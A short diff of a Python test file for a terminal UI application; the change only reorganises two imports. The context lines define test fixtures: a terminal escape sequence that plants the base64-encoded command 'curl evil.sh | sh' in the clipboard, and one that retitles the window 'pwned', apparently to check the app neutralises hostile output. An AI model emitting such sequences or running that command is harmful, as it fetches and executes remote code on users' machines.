@@ -10,11 +10,11 @@ import re
 from pathlib import Path
 
 import pytest
-from pane_sessions import outcome_session
-from screen_text import screen_text
 
 from facilitator.store.session_file import write_new_session
 from facilitator.tui.app import FacilitatorApp
+from tests.tui.pane_sessions import outcome_session
+from tests.tui.screen_text import screen_text
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # clipboard: `curl evil.sh | sh`
 OSC2 = "\x1b]2;pwned\x07"  # window title
